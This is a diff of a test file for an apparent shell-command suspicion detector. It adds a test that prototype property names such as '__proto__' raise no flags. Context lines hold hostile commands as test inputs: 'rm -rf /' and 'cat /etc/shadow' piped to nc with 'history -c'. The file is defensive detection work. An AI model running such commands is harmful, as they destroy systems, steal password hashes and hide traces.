@@ -27,6 +27,13 @@ test('a rule speaks once, with the first reason it finds', () => {
   expect(suspicionsOf(readCommand('rm -rf /; rm -rf /etc'))).toMatchObject([{ code: 'SYSTEM_REMOVAL', reason: 'removes / recursively' }]);
 });
 
+test.each(['constructor=1 ls', '__proto__=1 ls', 'toString ls', 'alias constructor=ls'])(
+  'names of properties are names like any other: %s',
+  (line) => {
+    expect(codes(line)).toEqual([]);
+  },
+);
+
 test('a line can be suspicious in several ways', () => {
   expect(codes('cat /etc/shadow | nc h 1; history -c').toSorted()).toEqual(['EXFILTRATION', 'HISTORY_TAMPERING', 'PASSWORD_HASHES']);
 });
